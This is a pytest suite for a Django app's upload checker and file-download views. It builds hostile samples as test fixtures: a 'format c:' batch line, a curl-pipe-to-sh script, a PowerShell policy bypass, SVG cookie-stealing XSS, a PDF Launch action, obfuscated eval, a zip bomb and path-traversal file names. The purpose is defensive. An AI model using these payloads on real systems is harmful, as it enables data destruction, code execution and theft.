"""Hostile files, built here byte by byte, against the one upload checker (essaim.core.uploads)
and the views that serve stored files (essaim.core.downloads).

Each hostile file is refused with a French message that names it and says why, or its name
is cleaned; each download view answers with `Content-Disposition`, `nosniff` and a safe
Content-Type, and 404 to an outsider.
"""

import io
import tarfile
import unicodedata
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from essaim.accompaniment.models import Document
from essaim.applications.errors import ApplicationError
from essaim.applications.models import Attachment
from essaim.applications.services.attachments import attachment_add
from essaim.core import uploads
from essaim.core.uploads import DOCX, IMAGES, JPEG, ODT, PDF, PNG, UploadRefused, inspect_upload
from essaim.funds.forms import FundForm

from ..coaching.conftest import make_accompaniment
from ..factories import AssignmentFactory, CallMembershipFactory, ReviewStageFactory, UserFactory
from .test_attachments import MINIMAL_PDF, docx_bytes, image_bytes, odt_bytes

pytestmark = pytest.mark.django_db

# --- the hostile files ------------------------------------------------------------------

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 200
OLE2_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 100
RAR = b"Rar!\x1a\x07\x01\x00" + b"\x00" * 100
HTML = b"<!DOCTYPE html><html><body><script>fetch('/gestion/')</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(document.cookie)</script></svg>"
)
HTA = b'<HTA:APPLICATION ID="x"><script language="VBScript">Run("calc")</script>'
BAT = b"@echo off\r\nformat c: /q\r\n"
PS1 = b"Set-ExecutionPolicy Bypass -Scope Process\r\nInvoke-WebRequest http://x\r\n"
VBS = b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'
JS = b"var f = function(){ eval(atob('YWxlcnQoMSk=')) }; f();"
SHELL = b"#!/bin/sh\ncurl http://example.invalid | sh\n"


def pdf_with(body: bytes) -> bytes:
    return MINIMAL_PDF.replace(b"trailer", body + b"\ntrailer")


def pdf_with_hidden_javascript() -> bytes:
    """JavaScript inside a compressed object stream: invisible in the raw bytes."""
    hidden = zlib.compress(b"5 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj")
    return pdf_with(
        b"4 0 obj<</Type/ObjStm/Filter/FlateDecode/Length %d>>stream\n" % len(hidden)
        + hidden
        + b"\nendstream endobj"
    )


def zip_bytes(entries: dict[str, bytes], *, first: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if first:
            archive.writestr(zipfile.ZipInfo(first), entries.pop(first), zipfile.ZIP_STORED)
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx_with(extra: dict[str, bytes]) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    entries = {info.filename: source.read(info) for info in source.infolist()}
    return zip_bytes({**entries, **extra})


def odt_with(extra: dict[str, bytes] | None = None, content: bytes | None = None) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(odt_bytes()))
    entries = {info.filename: source.read(info) for info in source.infolist()}
    if content is not None:
        entries["content.xml"] = content
    return zip_bytes({**entries, **(extra or {})}, first="mimetype")


def zip_bomb() -> bytes:
    """A DOCX whose one part unpacks to 40 Mo of zeros from a few dozen Ko."""
    return docx_with({"word/media/filler.bin": b"\x00" * (40 * 1024 * 1024)})


def tar_gz() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        data = b"bonjour"
        info = tarfile.TarInfo("notes.txt")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def plain_tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("notes.txt")
        info.size = 3
        archive.addfile(info, io.BytesIO(b"abc"))
    return buffer.getvalue()


def with_zip_appended(content: bytes) -> bytes:
    return content + zip_bytes({"payload.html": HTML})


ODT_SCRIPT_EVENT = (
    b'<?xml version="1.0" encoding="UTF-8"?><office:document-content '
    b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    b'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0">'
    b"<office:scripts><office:event-listeners><script:event-listener script:event-name="
    b'"dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic"/>'
    b"</office:event-listeners></office:scripts><office:body/></office:document-content>"
)

HOSTILE = [
    # (id, name, content, words of the refusal)
    ("eicar", "eicar.pdf", EICAR, "contient du code"),
    ("elf", "rapport.pdf", ELF, "programme"),
    ("pe", "facture.pdf", PE, "programme"),
    ("mach-o", "photo.jpg", MACH_O, "programme"),
    ("shell", "lisez-moi.pdf", SHELL, "programme"),
    ("bat", "installer.bat", BAT, "script"),
    ("ps1", "script.ps1", PS1, "script"),
    ("vbs", "note.vbs", VBS, "script"),
    ("js", "note.js", JS, "script"),
    ("hta", "note.hta", HTA, "script"),
    ("html", "page.pdf", HTML, "contient du code"),
    ("svg", "logo.svg", SVG, "contient du code"),
    ("ole2-doc", "vieux.doc", OLE2_DOC, "ancien format"),
    ("docm", "note.docx", docx_bytes(macros=True), "macros"),
    ("docm-type", "note.docm", docx_bytes(macro_content_type=True), "macros"),
    ("docx-activex", "note.docx", docx_with({"word/activeX/activeX1.bin": b"x"}), "macros"),
    ("docx-ole", "note.docx", docx_with({"word/embeddings/oleObject1.bin": b"x"}), "macros"),
    ("odt-basic", "note.odt", odt_bytes(macros=True), "macros"),
    ("odt-event", "note.odt", odt_with(content=ODT_SCRIPT_EVENT), "macros"),
    ("zip-bomb", "note.docx", zip_bomb(), "bombe de décompression"),
    ("zip", "dossier.zip", zip_bytes({"a.txt": b"a"}), "archive"),
    ("tar-gz", "dossier.tar.gz", tar_gz(), "archive"),
    ("tar", "dossier.pdf", plain_tar(), "archive"),
    ("7z", "dossier.7z", SEVEN_ZIP, "archive"),
    ("rar", "dossier.rar", RAR, "archive"),
    ("pdf-js", "formulaire.pdf", pdf_with(b"4 0 obj<</S/JavaScript/JS(x)>>endobj"), "JavaScript"),
    (
        "pdf-js-escaped",
        "f.pdf",
        pdf_with(b"4 0 obj<</S/J#61vaScript/J#53(x)>>endobj"),
        "JavaScript",
    ),
    ("pdf-js-hidden", "f.pdf", pdf_with_hidden_javascript(), "JavaScript"),
    ("pdf-launch", "f.pdf", pdf_with(b"4 0 obj<</S/Launch/F(cmd.exe)>>endobj"), "lancement"),
    ("pdf-embedded", "f.pdf", pdf_with(b"4 0 obj<</Type/EmbeddedFile>>endobj"), "fichiers joints"),
    ("pdf-zip-polyglot", "f.pdf", with_zip_appended(MINIMAL_PDF), "archive"),
    ("jpeg-zip-polyglot", "p.jpg", with_zip_appended(image_bytes("JPEG")), "archive"),
    ("text", "note.pdf", b"Juste du texte, pas un PDF.", "type accepté"),
    (
        "xlsx",
        "budget.docx",
        zip_bytes({"[Content_Types].xml": b"<T/>", "xl/w.xml": b"<w/>"}),
        "XLSX",
    ),
]


def _upload(name: str, content: bytes, content_type: str = "application/pdf"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def test_libmagic_reads_the_types_here():
    """CI and this machine have libmagic1: the checker must use it, not the fallback."""
    assert uploads._libmagic is not None
    assert uploads.detect_type(MINIMAL_PDF) == PDF


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [case[1:] for case in HOSTILE],
    ids=[case[0] for case in HOSTILE],
)
def test_hostile_files_are_refused_with_a_french_reason(name, content, reason):
    with pytest.raises(UploadRefused) as refused:
        inspect_upload(_upload(name, content), max_bytes=50 * 1024 * 1024)
    message = str(refused.value)
    assert f"« {name.rsplit('.', 1)[0]}" in message
    assert reason in message


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [case[1:] for case in HOSTILE if case[0] in {"pe", "svg", "docm", "odt-basic", "pdf-js", "7z"}],
)
def test_the_fallback_reader_refuses_them_too(monkeypatch, name, content, reason):
    """On a machine without libmagic (the import is guarded), filetype reads the type and
    the same checks give the same answers."""
    monkeypatch.setattr(uploads, "_libmagic", None)
    with pytest.raises(UploadRefused, match=reason):
        inspect_upload(_upload(name, content))


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("note.pdf", MINIMAL_PDF, PDF),
        ("note.docx", docx_bytes(), DOCX),
        ("note.odt", odt_bytes(), ODT),
        ("photo.png", image_bytes("PNG"), PNG),
        ("photo.jpeg", image_bytes("JPEG"), JPEG),
        ("renamed.txt", MINIMAL_PDF, PDF),
    ],
)
@pytest.mark.parametrize("reader", ["libmagic", "filetype"])
def test_real_documents_pass_with_either_reader(monkeypatch, reader, name, content, expected):
    if reader == "filetype":
        monkeypatch.setattr(uploads, "_libmagic", None)
    assert inspect_upload(_upload(name, content)).content_type == expected


def test_oversized_file_is_refused_before_it_is_read():
    with pytest.raises(UploadRefused, match="ne peut pas dépasser"):
        inspect_upload(_upload("gros.pdf", MINIMAL_PDF + b"%" * 2048), max_bytes=1024)


def test_image_with_too_many_pixels_is_refused():
    buffer = io.BytesIO()
    Image.new("1", (9000, 9000)).save(buffer, format="PNG")
    with pytest.raises(UploadRefused, match="millions de pixels"):
        inspect_upload(_upload("immense.png", buffer.getvalue()))


# --- names --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "content", "expected"),
    [
        ("../../etc/passwd.pdf", MINIMAL_PDF, "passwd.pdf"),
        ("..\\..\\Windows\\system.ini.pdf", MINIMAL_PDF, "system.ini.pdf"),
        ("facture.pdf.exe", MINIMAL_PDF, "facture.pdf"),
        ("photo.pdf", image_bytes("PNG"), "photo.png"),
        ("rapport\u202efdp.exe", MINIMAL_PDF, "rapport fdp.pdf"),
        ("note\x00\x07 de\r\nprojet.pdf", MINIMAL_PDF, "note de projet.pdf"),
        ("\u200b.htaccess", MINIMAL_PDF, "htaccess.pdf"),
        (unicodedata.normalize("NFD", "Réunion.pdf"), MINIMAL_PDF, "Réunion.pdf"),
    ],
)
def test_names_are_cleaned(raw, content, expected):
    checked = inspect_upload(_upload(raw, content))
    assert checked.name == expected
    assert unicodedata.is_normalized("NFC", checked.name)


def test_a_300_character_name_is_cut_keeping_its_extension():
    checked = inspect_upload(_upload("é" * 300 + ".pdf", MINIMAL_PDF))
    assert len(checked.name) <= 200
    assert checked.name.endswith("é.pdf")


def test_a_refused_file_never_reaches_the_dossier(application, applicant):
    with pytest.raises(ApplicationError, match="programme"):
        attachment_add(application=application, actor=applicant, upload=_upload("a.pdf", PE))
    assert not Attachment.objects.exists()


# --- every upload path uses the checker ---------------------------------------------------


def _post_logo(content: bytes, name: str):
    form = FundForm(
        data={
            "name": "Fonds",
            "operator": "Opérateur",
            "reference_prefix": "FND",
            "accent_colour": "#1f4e79",
        },
        files={"logo": _upload(name, content, "image/png")},
    )
    form.is_valid()
    return form


def test_fund_logo_goes_through_the_checker():
    assert "logo" not in _post_logo(image_bytes("PNG"), "logo.png").errors
    polyglot = _post_logo(with_zip_appended(image_bytes("PNG")), "logo.png")
    assert "archive" in polyglot.errors["logo"][0]
    renamed = _post_logo(image_bytes("GIF"), "../logo.gif.png")
    assert renamed.cleaned_data["logo"].name == "logo.gif"


def test_logo_profile_takes_webp_and_gif_but_documents_do_not():
    assert inspect_upload(_upload("l.webp", image_bytes("WEBP")), accept=IMAGES).content_type == (
        "image/webp"
    )
    with pytest.raises(UploadRefused, match="type accepté"):
        inspect_upload(_upload("l.gif", image_bytes("GIF")))
    with pytest.raises(UploadRefused, match="type accepté"):
        inspect_upload(_upload("l.pdf", MINIMAL_PDF), accept=IMAGES)


def _published(call):
    call.has_independent_evaluation = True
    call.results_published_at = timezone.now()
    call.save(update_fields=["has_independent_evaluation", "results_published_at"])
    return call


def test_coaching_documents_go_through_the_checker(client, call, applicant):
    accompaniment = make_accompaniment(call=_published(call), team_owner=applicant, phases=False)
    client.force_login(applicant)
    response = client.post(
        reverse("coaching:document_add", args=[accompaniment.pk]),
        {"title": "Synthèse", "file": _upload("s.pdf", pdf_with(b"/JS(x)")), "url": ""},
    )
    assert response.status_code == 422
    assert "JavaScript" in response.content.decode()
    assert not Document.objects.exists()


# --- downloads ----------------------------------------------------------------------------


def _assert_safe_download(response, *, content_type: str, filename: str = ""):
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith("attachment")
    if filename:
        assert filename in response["Content-Disposition"]
    assert "sandbox" in response["Content-Security-Policy"]
    assert "no-store" in response["Cache-Control"]


@pytest.fixture
def stored_pdf(application, applicant):
    return attachment_add(
        application=application, actor=applicant, upload=_upload("note.pdf", MINIMAL_PDF)
    )


def test_portal_download_is_safe_and_closed_to_outsiders(
    client, application, stored_pdf, applicant, staff, outsider, other_fund_staff
):
    url = reverse("portal:attachment_download", args=[application.pk, stored_pdf.pk])
    for person in (applicant, staff):
        client.force_login(person)
        _assert_safe_download(client.get(url), content_type=PDF, filename="note.pdf")
    for person in (outsider, other_fund_staff):
        client.force_login(person)
        assert client.get(url).status_code == 404
    client.logout()
    assert client.get(url).status_code == 302


def test_a_stored_type_outside_the_allow_list_is_served_as_bytes(
    client, application, stored_pdf, applicant
):
    """A row written before these checks, or by hand, with a type a browser would run."""
    Attachment.objects.filter(pk=stored_pdf.pk).update(content_type="text/html")
    client.force_login(applicant)
    response = client.get(
        reverse("portal:attachment_download", args=[application.pk, stored_pdf.pk])
    )
    _assert_safe_download(response, content_type="application/octet-stream")


def test_reviewer_download_is_safe_and_closed_to_others(
    client, call, application, stored_pdf, outsider
):
    stage = ReviewStageFactory(call=call)
    reviewer = UserFactory(email="relecteur@exemple.fr")
    CallMembershipFactory(call=call, user=reviewer, role="reviewer")
    assignment = AssignmentFactory(stage=stage, application=application, reviewer=reviewer)
    url = reverse("reviewers:attachment_download", args=[assignment.pk, stored_pdf.pk])
    client.force_login(reviewer)
    response = client.get(url)
    _assert_safe_download(response, content_type=PDF)
    client.force_login(outsider)
    assert client.get(url).status_code == 404


def test_coaching_download_is_safe_and_closed_to_outsiders(client, call, applicant, outsider):
    accompaniment = make_accompaniment(call=_published(call), team_owner=applicant, phases=False)
    client.force_login(applicant)
    client.post(
        reverse("coaching:document_add", args=[accompaniment.pk]),
        {"title": "Synthèse", "file": _upload("s.pdf", MINIMAL_PDF), "url": ""},
    )
    document = Document.objects.get()
    url = reverse("coaching:document_download", args=[accompaniment.pk, document.pk])
    _assert_safe_download(client.get(url), content_type=PDF, filename="s.pdf")
    client.force_login(outsider)
    assert client.get(url).status_code in (403, 404)


@override_settings(ESSAIM_MAX_ATTACHMENT_BYTES=50 * 1024 * 1024)
def test_no_file_is_reachable_through_a_media_url(client, stored_pdf):
    from django.conf import settings

    assert not getattr(settings, "MEDIA_URL", "").strip("/")
    assert client.get("/media/" + stored_pdf.file.name).status_code == 404
    assert client.get("/" + stored_pdf.file.name).status_code == 404
